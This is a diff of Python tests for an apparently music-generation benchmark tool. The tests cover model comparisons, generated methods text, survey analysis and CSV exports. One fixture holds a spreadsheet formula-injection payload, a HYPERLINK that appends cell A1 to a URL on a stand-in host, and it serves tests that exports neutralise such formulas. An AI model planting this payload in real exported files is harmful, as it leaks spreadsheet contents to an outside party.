@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import re
@@ -20,19 +21,29 @@ import yaml
 import bench
 from bench import DataError, UsageError
 from bench.comparison.compare import compare
+from bench.comparison.record import Comparison
 from bench.environment import environment
+from bench.export.clip_table import written as exported
+from bench.export.spreadsheet import as_csv
 from bench.leaderboard import leaderboard
 from bench.protocol import protocol_of
+from bench.report import gather as gathering
 from bench.report.content import ClipMedia, Content
 from bench.report.doses import read_doses
-from bench.report.downloads import as_csv, leaderboard_records, write_downloads
-from bench.report.gather import gather
+from bench.report.downloads import comparison_records, leaderboard_records, write_downloads
+from bench.report.pairs import pairs
+from bench.report.snapshot import snapshot
 from bench.store import Store
 from bench.survey.analysis import analyse, record
 from bench.survey.reading import read_survey
 from metrics.dose_response import Response
 
 FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"<b>listen</b>")'
+
+
+def gather(run: Path, media: dict[str, ClipMedia | str], **files: Path) -> Content:
+    with snapshot(run) as store:
+        return gathering.gather(store, media, **files)
 
 
 def prompt(id: str, genre: str, level: int, text: str) -> dict[str, Any]:
@@ -87,7 +98,7 @@ def copy(folder: Path, tmp_path: Path) -> Path:
 def small(tmp_path: Path, tiny: Path) -> Callable[..., Path]:
     """A run that takes no time; keyword arguments replace settings."""
 
-    def make(**settings: object) -> Path:
+    def make(to: str = "small", **settings: object) -> Path:
         (tmp_path / "few.yaml").write_text(yaml.safe_dump(SUITE))
         config = {
             "suite": str(tmp_path / "few.yaml"),
@@ -97,7 +108,7 @@ def small(tmp_path: Path, tiny: Path) -> Callable[..., Path]:
             "executor": {"workers": 0},
             **settings,
         }
-        return bench.run(config, tmp_path / "small").folder
+        return bench.run(config, tmp_path / to).folder
 
     return make
 
@@ -115,14 +126,34 @@ def test_the_leaderboard_is_the_runs(folder: Path, content: Content) -> None:
 
 
 def test_every_pair_is_compared_as_the_command_compares_it(folder: Path, content: Content) -> None:
-    pairs = list(combinations(["composer", "off", "sine"], 2))
-    assert list(dict.fromkeys((c.a, c.b) for c in content.comparisons)) == pairs
-    for a, b in pairs:
-        over_all = [c for c in content.comparisons if (c.a, c.b, c.grouping) == (a, b, "all")]
-        assert over_all == compare(folder, a, b)
-    assert {c.grouping for c in content.comparisons if not c.column.of_sets} == {"all", "genre", "level"}
-    assert {c.grouping for c in content.comparisons if c.column.of_sets} == {"all"}
+    expected = list(combinations(["composer", "off", "sine"], 2))
+    assert list(dict.fromkeys((c.a, c.b) for c in content.comparisons)) == expected
+    for a, b in expected:
+        for by in ("genre", "level"):
+            found = [c for c in content.comparisons if (c.a, c.b) == (a, b) and c.grouping in ("all", by)]
+            assert found == compare(folder, a, b, by=by)
     assert {ref for _, ref in content.ranks} == {"Peak@1", "kad@1"}
+
+
+def test_every_model_has_its_chance_whichever_way_round_a_pair_is_shown(folder: Path, content: Content) -> None:
+    """The last model is B of every pair: its chance is that of a comparison the other way round."""
+
+    def chance(one: Comparison) -> dict[str, Any] | None:
+        return one.chance and {name: value and float(f"{value:.7g}") for name, value in asdict(one.chance).items()}
+
+    shown = {name: [record for record in found if record["grouping"] == "all"] for name, found in pairs(content)}
+    refs = [column.ref for column in content.columns]
+    for name, (a, b) in {"0-1": ("composer", "off"), "0-2": ("composer", "sine"), "1-2": ("off", "sine")}.items():
+        forth, back = compare(folder, a, b), compare(folder, b, a)
+        assert [record["metric"] for record in shown[name]] == [refs.index(one.column.ref) for one in forth]
+        assert [record["chance"] for record in shown[name]] == [chance(one) for one in forth]
+        assert [record["chance_b"] for record in shown[name]] == [chance(one) for one in back]
+    assert ("sine", "Peak@1") in content.chances
+
+
+def test_comparisons_name_the_protocol_as_the_command_does(content: Content) -> None:
+    ids = {(row["protocol"], row["protocol_b"]) for row in comparison_records(content)}
+    assert ids == {(content.protocol.id, content.protocol.id)}
 
 
 def test_every_planned_clip_has_scores_or_says_why_not(folder: Path) -> None:
@@ -232,11 +263,75 @@ def test_methods_of_one_model_one_seed_and_no_sets(small: Callable[..., Path]) -
     assert content.ranks == {("sine", "Peak@1"): content.ranks["sine", "Peak@1"]}
 
 
+def test_methods_of_what_is_not_scored_yet(small: Callable[..., Path]) -> None:
+    run = small(seeds=[3])
+    database = sqlite3.connect(run / "run.db")
+    database.execute("DELETE FROM scores")
+    database.commit()
+    database.close()
+    content = gather(run, {})
+    text = "\n".join(content.methods)
+    assert "Each clip is to be scored by 1 metric." in text
+    assert "Statistics. Nothing is scored yet." in content.methods
+    assert re.match(rf"Software\. tunebench [\d.]+, protocol {content.protocol.id}\. ", content.methods[-1])
+    for absent in ("comparable with", "undefined or missing", "interval"):
+        assert absent not in text
+
+
+def test_methods_of_sets_that_are_compared_with_nothing(small: Callable[..., Path], tiny: Path, tmp_path: Path) -> None:
+    """By an embedder of a plugin file, of whose folder nothing that is shared may tell."""
+    models = [{"name": f"{tiny}:Sine", "as": f"{hz}", "params": {"hz": float(hz)}} for hz in (200, 900)]
+    metric = {"name": "diversity", "params": {"embedder": f"{tiny}:Bands"}}
+    run = small(metrics=[metric], models=models, duration=0.75, seeds=[0, 1])
+    content = gather(run, {})
+    text = "\n".join(content.methods)
+    assert "embeddings of whole clips by tiny.py:Bands" in text
+    assert "jackknife interval" in text
+    assert "reference" not in text
+    assert [column.ref for column in content.columns] == ["diversity[embedder=Bands]@1"]
+    with snapshot(run) as store:
+        write_downloads(content, store, tmp_path)
+    for file in (tmp_path / "data").iterdir():
+        assert str(tiny.parent) not in file.read_text(), file.name
+
+
+def test_methods_count_one_thing_as_one(tmp_path: Path, small: Callable[..., Path], tiny: Path) -> None:
+    (tmp_path / "one.yaml").write_text(yaml.safe_dump({**SUITE, "prompts": [prompt("jazz-2", "jazz", 1, "one")]}))
+    settings: dict[str, Any] = {"suite": str(tmp_path / "one.yaml"), "metrics": [f"{tiny}:Frames"], "seeds": [0]}
+    text = "\n".join(gather(small(**settings), {}).methods)
+    assert "; the 1 clip was made." in text
+    assert "0 of 1 clip counts." in text
+    assert "1 of 1 score of clips is undefined or missing. " in text  # and one model is compared with none
+    models = [{"name": f"{tiny}:Sine", "as": "sine", "params": {"bad": "error"}}]
+    text = "\n".join(gather(small("failing", **settings, models=models), {}).methods)
+    assert "0 of 1 clip was made" in text
+    assert "1 failure is left out, of clips or of their scores." in text
+
+
+def test_methods_say_what_was_done_with_lone_genres_and_unequal_lengths(
+    tmp_path: Path, small: Callable[..., Path], tiny: Path
+) -> None:
+    text = "\n".join(gather(small(), {}).methods)
+    joined = "A genre of which one prompt alone has a value is joined with others into one stratum."
+    assert joined not in text
+    blues = {**SUITE, "prompts": [*SUITE["prompts"], prompt("blues-1", "blues", 1, "A blues")]}
+    (tmp_path / "blues.yaml").write_text(yaml.safe_dump(blues))
+    models = [{"name": f"{tiny}:Sine", "as": f"{hz}", "params": {"hz": float(hz)}} for hz in (200, 900)]
+    run = small("blues", suite=str(tmp_path / "blues.yaml"), models=models)
+    database = sqlite3.connect(run / "run.db")
+    database.execute("UPDATE clips SET frames = 2 * frames WHERE model = '900'")
+    database.commit()
+    database.close()
+    text = "\n".join(gather(run, {}).methods)
+    assert joined in text
+    assert "In 1 of the pairs the models' clips differ in length" in text
+
+
 def test_methods_name_checkpoint_and_adapter(small: Callable[..., Path]) -> None:
     run = small()
     identity = {
         "class": "models.stable_audio:StableAudio@2",
-        "params": {"steps": 50, "adapter_scale": 0.8, "negative": None},
+        "params": {"steps": 50, "adapter_scale": 0.8, "negative": None, "suffix": ""},
         "repo": "owner/name",
         "revision": "0123456789abcdef",
         "dtype": "float32",
@@ -248,7 +343,7 @@ def test_methods_name_checkpoint_and_adapter(small: Callable[..., Path]) -> None
     database.commit()
     database.close()
     assert gather(run, {}).methods[1] == (
-        "Models. sine: StableAudio@2 with steps = 50, checkpoint owner/name at revision 0123456789ab, "
+        'Models. sine: StableAudio@2 with steps = 50, suffix = "", checkpoint owner/name at revision 0123456789ab, '
         "adapter 'jazz' weights SHA-256 ffffffffffff… at scale 0.8, dtype float32."
     )
 
@@ -282,7 +377,11 @@ def test_ratings_beside_the_run_are_analysed(copy: Path) -> None:
     content = gather(copy, {})
     assert content.survey is not None
     assert content.survey.source == "ratings.csv"
-    assert content.survey.record == record(analyse(read_survey(copy / "ratings.csv")))
+    # The file names no genres, and the run knows them.
+    genres = {p["id"]: p["genre"] for p in SUITE["prompts"]}
+    table.assign(genre=table["prompt"].map(genres)).to_csv(copy / "with genres.csv", index=False)
+    assert content.survey.record == record(analyse(read_survey(copy / "with genres.csv")))
+    assert content.survey.record["design"]["genres"] == {"jazz": 2, "rock": 3}
     assert content.survey.sections[0].title == "Survey"
     assert "Listeners. 4 listeners gave 40 answers that count (0 excluded) to clips of 5 prompts" in "\n".join(
         content.methods
@@ -397,6 +496,12 @@ def test_any_text_that_could_be_a_formula_is_guarded() -> None:
         cell.replace("\r", "\n") for cell in [*guarded, *texts[8:]]
     ]
     assert read.number.tolist() == list(table.number)
+
+
+def test_a_lone_carriage_return_breaks_no_row_of_an_export() -> None:
+    table = pd.DataFrame({"text": ["one\rtwo", "=1+1"], "value": [-1.5, None]})
+    rows = list(csv.reader(io.StringIO(exported(table, "csv").decode(), newline="")))
+    assert rows == [["text", "value"], ["one\rtwo", "-1.5"], ["'=1+1", ""]]
 
 
 def test_groups_of_the_leaderboard_are_told_apart(content: Content) -> None:
